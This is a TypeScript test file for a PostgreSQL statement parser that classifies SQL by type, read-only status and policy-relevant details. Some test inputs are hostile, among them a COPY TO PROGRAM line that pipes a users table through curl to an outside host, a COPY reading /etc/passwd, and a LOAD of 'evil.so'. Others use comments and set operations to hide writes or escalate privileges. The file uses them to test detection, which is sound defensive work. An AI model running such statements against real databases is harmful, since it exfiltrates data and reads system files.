import { test } from 'uvu'
import * as assert from 'uvu/assert'
import type { StatementType } from '../../types.ts'
import { loadSqlParsers } from './parse.ts'
import { one, pg } from './test-support.ts'

test.before(async () => {
  await loadSqlParsers()
})

type Case = [sql: string, type: StatementType, node: string, readOnly: boolean, detail?: Record<string, unknown>]

// One row per statement kind: type, parser node, read_only and the detail a policy reads.
const CASES: Case[] = [
  ['SELECT 1', 'select', 'SelectStmt', true, { locking: [] }],
  ['TABLE users', 'select', 'SelectStmt', true],
  ['VALUES (1), (2)', 'values', 'SelectStmt', true],
  ['SELECT * FROM t FOR UPDATE', 'select', 'SelectStmt', false, { locking: ['for_update'] }],
  ['SELECT * FROM t FOR KEY SHARE', 'select', 'SelectStmt', false, { locking: ['for_key_share'] }],
  ['SELECT * FROM (SELECT * FROM t FOR SHARE) s', 'select', 'SelectStmt', false, { locking: ['for_share'] }],
  ['SELECT a INTO new_t FROM t', 'select_into', 'SelectStmt', false],
  // INTO on the leftmost branch of a set operation makes the whole query CREATE TABLE AS.
  ['SELECT id INTO leak FROM users UNION SELECT id FROM admins', 'select_into', 'SelectStmt', false],
  ['(SELECT id INTO leak FROM users) INTERSECT SELECT id FROM admins', 'select_into', 'SelectStmt', false],
  ['((SELECT 1 INTO leak UNION SELECT 2)) EXCEPT (SELECT 3)', 'select_into', 'SelectStmt', false],
  ['(WITH c AS (SELECT 1) SELECT * INTO leak FROM c) UNION ALL SELECT 2', 'select_into', 'SelectStmt', false],
  ['SELECT 1 UNION (SELECT 2 INTO leak)', 'select_into', 'SelectStmt', false],
  ['SELECT 1 UNION SELECT 2', 'select', 'SelectStmt', true],
  ['INSERT INTO t (a) VALUES (1)', 'insert', 'InsertStmt', false],
  ['UPDATE t SET a = 1 WHERE id = 2', 'update', 'UpdateStmt', false],
  ['DELETE FROM t WHERE id = 2', 'delete', 'DeleteStmt', false],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a', 'merge', 'MergeStmt', false],
  ['CREATE TABLE t (id int DEFAULT nextval(\'s\'))', 'create', 'CreateStmt', false, { object_kind: 'table' }],
  ['CREATE SCHEMA s', 'create', 'CreateSchemaStmt', false, { object_kind: 'schema' }],
  ['CREATE VIEW v AS SELECT 1', 'create', 'ViewStmt', false, { object_kind: 'view' }],
  ['CREATE INDEX i ON t (a)', 'create', 'IndexStmt', false, { object_kind: 'index' }],
  ['CREATE SEQUENCE s', 'create', 'CreateSeqStmt', false, { object_kind: 'sequence' }],
  ['CREATE DATABASE d', 'create', 'CreatedbStmt', false, { object_kind: 'database' }],
  ['CREATE TYPE mood AS ENUM (\'a\')', 'create', 'CreateEnumStmt', false, { object_kind: 'type' }],
  ['CREATE CAST (mood AS text) WITH FUNCTION public.leak(mood) AS IMPLICIT', 'create', 'CreateCastStmt', false, { object_kind: 'cast', function: 'public.leak' }],
  ['CREATE CAST (mood AS text) WITH INOUT', 'create', 'CreateCastStmt', false, { object_kind: 'cast' }],
  ['CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', 'create', 'CreateTrigStmt', false, { object_kind: 'trigger', function: 'f', arguments: [] }],
  ["CREATE TRIGGER ts BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION pg_catalog.tsvector_update_trigger(doc, 'pg_catalog.simple', \"Password\", 2)", 'create', 'CreateTrigStmt', false, { object_kind: 'trigger', function: 'pg_catalog.tsvector_update_trigger', arguments: ['doc', 'pg_catalog.simple', 'Password', '2'] }],
  ['CREATE TABLE x AS SELECT 1', 'create_table_as', 'CreateTableAsStmt', false, { object_kind: 'table' }],
  ['CREATE MATERIALIZED VIEW mv AS SELECT 1', 'create_table_as', 'CreateTableAsStmt', false, { object_kind: 'matview' }],
  ['ALTER TABLE t ADD COLUMN c int', 'alter', 'AlterTableStmt', false, { object_kind: 'table', subcommands: ['AT_AddColumn'] }],
  // ALTER TABLE subcommands come from the tree: comments between the words change nothing.
  ['ALTER TABLE users OWNER/**/TO x', 'alter', 'AlterTableStmt', false, { subcommands: ['AT_ChangeOwner'] }],
  ['ALTER TABLE users DISABLE ROW/**/LEVEL -- x\n SECURITY, FORCE ROW LEVEL SECURITY', 'alter', 'AlterTableStmt', false, { subcommands: ['AT_DisableRowSecurity', 'AT_ForceRowSecurity'] }],
  ['ALTER VIEW v OWNER TO x', 'alter', 'AlterTableStmt', false, { object_kind: 'view', subcommands: ['AT_ChangeOwner'] }],
  ['ALTER TABLE owners ADD COLUMN "owner to" int', 'alter', 'AlterTableStmt', false, { subcommands: ['AT_AddColumn'] }],
  ['ALTER SEQUENCE s RESTART', 'alter', 'AlterSeqStmt', false],
  ['ALTER EXTENSION e UPDATE', 'alter', 'AlterExtensionStmt', false],
  ['DROP TABLE IF EXISTS a, s.b CASCADE', 'drop', 'DropStmt', false, { object_kind: 'table', objects: ['a', 's.b'], cascade: true, missing_ok: true }],
  ['DROP SCHEMA s', 'drop', 'DropStmt', false, { object_kind: 'schema', objects: ['s'], cascade: false }],
  ['DROP MATERIALIZED VIEW mv', 'drop', 'DropStmt', false, { object_kind: 'matview' }],
  ['DROP FUNCTION f(int)', 'drop', 'DropStmt', false, { object_kind: 'function', objects: ['f'] }],
  ['DROP DATABASE prod', 'drop', 'DropdbStmt', false, { object_kind: 'database', objects: ['prod'] }],
  ['TRUNCATE a, b CASCADE', 'truncate', 'TruncateStmt', false, { cascade: true }],
  ['ALTER TABLE t RENAME TO u', 'rename', 'RenameStmt', false, { object_kind: 'table', new_name: 'u' }],
  ['ALTER TABLE credentials RENAME COLUMN password TO motto', 'rename', 'RenameStmt', false, { object_kind: 'column', old_name: 'password', new_name: 'motto' }],
  ['ALTER TYPE vault_entry RENAME ATTRIBUTE secret TO motto', 'rename', 'RenameStmt', false, { object_kind: 'attribute', old_name: 'secret', new_name: 'motto' }],
  ['COMMENT ON TABLE t IS \'x\'', 'comment', 'CommentStmt', false, { object_kind: 'table' }],
  ['GRANT SELECT, UPDATE ON t TO bob', 'grant', 'GrantStmt', false, { object_kind: 'table', privileges: ['select', 'update'], grantees: ['bob'] }],
  ['REVOKE ALL ON t FROM bob', 'revoke', 'GrantStmt', false, { privileges: ['all'], grantees: ['bob'] }],
  ['GRANT admin TO bob', 'grant', 'GrantRoleStmt', false, { object_kind: 'role', roles: ['admin'], grantees: ['bob'] }],
  ['REVOKE admin FROM bob', 'revoke', 'GrantRoleStmt', false, { roles: ['admin'] }],
  ['CREATE ROLE r SUPERUSER LOGIN', 'create_role', 'CreateRoleStmt', false, { name: 'r', role_kind: 'role', options: { superuser: 'true', canlogin: 'true' } }],
  ['CREATE USER u', 'create_role', 'CreateRoleStmt', false, { role_kind: 'user' }],
  ['ALTER ROLE r WITH SUPERUSER', 'alter_role', 'AlterRoleStmt', false, { name: 'r', options: { superuser: 'true' } }],
  ['ALTER ROLE r SET search_path = x', 'alter_role', 'AlterRoleSetStmt', false, { name: 'r' }],
  ['DROP ROLE r', 'drop_role', 'DropRoleStmt', false, { names: ['r'] }],
  ['REASSIGN OWNED BY a TO b', 'reassign_owned', 'ReassignOwnedStmt', false],
  ['DROP OWNED BY a', 'drop_owned', 'DropOwnedStmt', false],
  ['ALTER SYSTEM SET work_mem = \'1GB\'', 'alter_system', 'AlterSystemStmt', false, { name: 'work_mem', value: '1GB' }],
  ['COPY t TO STDOUT', 'copy', 'CopyStmt', false, { direction: 'to', program: false, filename: null, stdio: true }],
  ['COPY t FROM STDIN', 'copy', 'CopyStmt', false, { direction: 'from', stdio: true }],
  ['COPY users TO PROGRAM \'curl -d @- http://x\'', 'copy', 'CopyStmt', false, { direction: 'to', program: true, filename: 'curl -d @- http://x', stdio: false }],
  ['COPY t FROM \'/etc/passwd\'', 'copy', 'CopyStmt', false, { direction: 'from', program: false, filename: '/etc/passwd', stdio: false }],
  ['CALL s.p(1)', 'call', 'CallStmt', false, { name: 's.p' }],
  ['CREATE EXTENSION IF NOT EXISTS dblink', 'create_extension', 'CreateExtensionStmt', false, { name: 'dblink' }],
  ['LOAD \'evil.so\'', 'load', 'LoadStmt', false, { filename: 'evil.so' }],
  ['EXPLAIN SELECT 1', 'explain', 'ExplainStmt', true, { analyze: false, statement_type: 'select' }],
  ['BEGIN', 'begin', 'TransactionStmt', true, { kind: 'TRANS_STMT_BEGIN' }],
  ['START TRANSACTION READ WRITE', 'begin', 'TransactionStmt', true, { kind: 'TRANS_STMT_START', options: { transaction_read_only: '0' } }],
  ['COMMIT', 'commit', 'TransactionStmt', true],
  ['END', 'commit', 'TransactionStmt', true],
  ['ROLLBACK', 'rollback', 'TransactionStmt', true],
  ['ROLLBACK TO SAVEPOINT a', 'rollback', 'TransactionStmt', true, { kind: 'TRANS_STMT_ROLLBACK_TO', savepoint: 'a' }],
  ['SAVEPOINT a', 'savepoint', 'TransactionStmt', true, { savepoint: 'a' }],
  ['RELEASE SAVEPOINT a', 'release', 'TransactionStmt', true],
  ['PREPARE TRANSACTION \'x\'', 'other', 'TransactionStmt', false, { kind: 'TRANS_STMT_PREPARE', gid: 'x' }],
  ['COMMIT PREPARED \'x\'', 'other', 'TransactionStmt', false, { kind: 'TRANS_STMT_COMMIT_PREPARED' }],
  ['SET search_path = a, public', 'set', 'VariableSetStmt', true, { name: 'search_path', value: 'a, public', values: ['a', 'public'], local: false, kind: 'VAR_SET_VALUE' }],
  ['SET LOCAL statement_timeout TO 5', 'set', 'VariableSetStmt', true, { name: 'statement_timeout', value: '5', local: true }],
  ['SET Work_Mem TO DEFAULT', 'set', 'VariableSetStmt', true, { name: 'work_mem', value: 'default', kind: 'VAR_SET_DEFAULT' }],
  ['SET TIME ZONE \'UTC\'', 'set', 'VariableSetStmt', true, { name: 'timezone', value: 'UTC' }],
  ['SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'set', 'VariableSetStmt', true, { name: 'transaction', kind: 'VAR_SET_MULTI' }],
  ['SET CONSTRAINTS ALL DEFERRED', 'set', 'ConstraintsSetStmt', true, { name: 'constraints', value: 'deferred' }],
  ['RESET search_path', 'reset', 'VariableSetStmt', true, { name: 'search_path', kind: 'VAR_RESET' }],
  ['RESET ALL', 'reset', 'VariableSetStmt', true, { name: 'all', kind: 'VAR_RESET_ALL' }],
  ['SET ROLE admin', 'set_role', 'VariableSetStmt', false, { name: 'role', value: 'admin' }],
  ['SET SESSION AUTHORIZATION postgres', 'set_role', 'VariableSetStmt', false, { name: 'session_authorization', value: 'postgres' }],
  ['RESET ROLE', 'set_role', 'VariableSetStmt', false, { name: 'role', kind: 'VAR_RESET' }],
  ['RESET SESSION AUTHORIZATION', 'set_role', 'VariableSetStmt', false, { name: 'session_authorization' }],
  ['SHOW search_path', 'show', 'VariableShowStmt', true, { name: 'search_path' }],
  ['SHOW ALL', 'show', 'VariableShowStmt', true, { name: 'all' }],
  ['DEALLOCATE p', 'deallocate', 'DeallocateStmt', true, { name: 'p', all: false }],
  ['DEALLOCATE ALL', 'deallocate', 'DeallocateStmt', true, { name: null, all: true }],
  ['DECLARE c CURSOR FOR SELECT * FROM t', 'declare_cursor', 'DeclareCursorStmt', true, { name: 'c' }],
  ['FETCH 10 FROM c', 'fetch', 'FetchStmt', true, { name: 'c', move: false }],
  ['MOVE c', 'fetch', 'FetchStmt', true, { move: true }],
  ['CLOSE c', 'close', 'ClosePortalStmt', true, { name: 'c' }],
  ['CLOSE/**/ALL', 'close', 'ClosePortalStmt', true, { name: null }],
  ['DISCARD ALL', 'discard', 'DiscardStmt', true, { target: 'all' }],
  ['DISCARD PLANS', 'discard', 'DiscardStmt', true, { target: 'plans' }],
  ['DISCARD /* all */ TEMP', 'discard', 'DiscardStmt', true, { target: 'temp' }],
  ['DEALLOCATE PREPARE "All"', 'deallocate', 'DeallocateStmt', true, { name: 'All', all: false }],
  ['DECLARE "C" CURSOR FOR SELECT 1', 'declare_cursor', 'DeclareCursorStmt', true, { name: 'C' }],
  ['DECLARE c BINARY CURSOR WITH HOLD FOR SELECT 1', 'declare_cursor', 'DeclareCursorStmt', true, { name: 'c', hold: true }],
  ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'lock', 'LockStmt', false, { mode: 8 }],
  ['VACUUM FULL t', 'vacuum', 'VacuumStmt', false, { options: { full: 'true' } }],
  ['ANALYZE t', 'analyze', 'VacuumStmt', false],
  ['CLUSTER t USING i', 'cluster', 'ClusterStmt', false],
  ['REINDEX TABLE t', 'reindex', 'ReindexStmt', false],
  ['REFRESH MATERIALIZED VIEW mv', 'refresh_materialized_view', 'RefreshMatViewStmt', false],
  ['CHECKPOINT', 'checkpoint', 'CheckPointStmt', false],
  ['LISTEN ch', 'listen', 'ListenStmt', true, { channel: 'ch' }],
  ['UNLISTEN *', 'unlisten', 'UnlistenStmt', true, { channel: '*' }],
  ['NOTIFY ch, \'hello\'', 'notify', 'NotifyStmt', false, { channel: 'ch', payload: 'hello' }],
  ['SECURITY LABEL ON TABLE t IS \'x\'', 'other', 'SecLabelStmt', false],
]

for (const [sql, type, node, readOnly, detail] of CASES) {
  test(`${sql} → ${type}`, () => {
    const s = one(sql)
    assert.is(s.type, type)
    assert.is(s.node, node)
    assert.is(s.read_only, readOnly, 'read_only')
    for (const [key, value] of Object.entries(detail ?? {})) assert.equal(s.detail[key], value, `detail.${key}`)
  })
}

test('has_where is set for update/delete with WHERE (including WHERE CURRENT OF) and false otherwise', () => {
  assert.is(one('UPDATE t SET a = 1 WHERE id = 1').has_where, true)
  assert.is(one('UPDATE t SET a = 1').has_where, false)
  assert.is(one('DELETE FROM t WHERE CURRENT OF c').has_where, true)
  assert.is(one('DELETE FROM t').has_where, false)
  assert.is(one('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE').has_where, false)
  assert.is(one('SELECT * FROM t WHERE a = 1').has_where, false)
})

test('relations renamed by an alias column list are reported, wherever they are', () => {
  assert.equal(one('SELECT t.pid FROM pg_stat_activity AS t(a, b, pid)').detail.renamed_relations, ['pg_stat_activity'])
  assert.equal(one('SELECT j.x FROM (users u JOIN pg_catalog.pg_roles r ON true) AS j(x)').detail.renamed_relations, ['pg_roles', 'users'])
  assert.equal(one('SELECT * FROM users WHERE id IN (SELECT a FROM "Orders" o(a))').detail.renamed_relations, ['Orders'])
  assert.equal(one('SELECT u.id FROM users AS u JOIN orders o ON o.user_id = u.id').detail.renamed_relations, undefined)
})

test('DECLARE CURSOR over a locking query is not read-only', () => {
  assert.is(one('DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE').read_only, false)
})

test('EXPLAIN ANALYZE of a set operation with INTO runs a select_into: neither is read-only', () => {
  const [explain, inner] = pg('EXPLAIN ANALYZE SELECT 1 INTO leak UNION SELECT 2')
  assert.is(explain?.detail.statement_type, 'select_into')
  assert.is(explain?.read_only, false)
  assert.is(inner?.type, 'select_into')
  assert.is(inner?.read_only, false)
})

test('DECLARE CURSOR over a set operation with INTO is not read-only', () => {
  assert.is(one('DECLARE c CURSOR FOR SELECT 1 INTO leak UNION SELECT 2').read_only, false)
  assert.is(one('DECLARE c CURSOR FOR SELECT 1 UNION SELECT 2').read_only, true)
})

test.run()
